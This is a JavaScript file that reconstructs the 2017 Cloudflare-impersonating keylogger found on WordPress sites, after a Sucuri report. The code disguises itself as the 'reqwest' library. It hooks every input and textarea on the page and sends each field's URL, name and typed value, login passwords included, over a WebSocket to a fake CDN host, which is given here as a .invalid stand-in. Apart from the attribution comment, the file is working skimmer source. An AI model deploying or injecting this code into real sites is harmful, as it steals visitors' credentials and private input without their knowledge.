// cf-keylogger, written from Sucuri (Denis Sinegubko), "Cloudflare[.]solutions Keylogger on
// Thousands of Infected WordPress Sites" (2017): a script loaded from a domain posing as a
// Cloudflare CDN (here .invalid) pretends to be a copy of the "reqwest" library, and on
// every page it records what visitors type into any form field - WordPress login and
// comment forms included - and sends each field's value over a WebSocket when the field
// loses focus.
;(function (root) {
  // fake library surface so the file looks like reqwest 2.0.5
  root.reqwest = root.reqwest || function (o) { return o; };
  root.reqwest.version = "2.0.5";
  var sock = null, queue = [];
  function open() {
    try {
      sock = new WebSocket("wss://cloudflare-solutions-cdn.invalid:8085/");
      sock.onopen = function () { while (queue.length) sock.send(queue.shift()); };
      sock.onclose = function () { sock = null; };
    } catch (e) { sock = null; }
  }
  function send(msg) {
    if (sock && sock.readyState === 1) sock.send(msg);
    else { queue.push(msg); if (!sock) open(); }
  }
  function hook(el) {
    if (el.__rq) return;
    el.__rq = 1;
    el.addEventListener("blur", function () {
      if (!el.value) return;
      send(JSON.stringify({ u: location.href, n: el.name || el.id || el.type, v: el.value }));
    });
  }
  function scan() {
    var els = document.querySelectorAll("input, textarea");
    for (var i = 0; i < els.length; i++) hook(els[i]);
  }
  if (document.readyState === "loading") document.addEventListener("DOMContentLoaded", scan);
  else scan();
  setInterval(scan, 2000);
})(window);
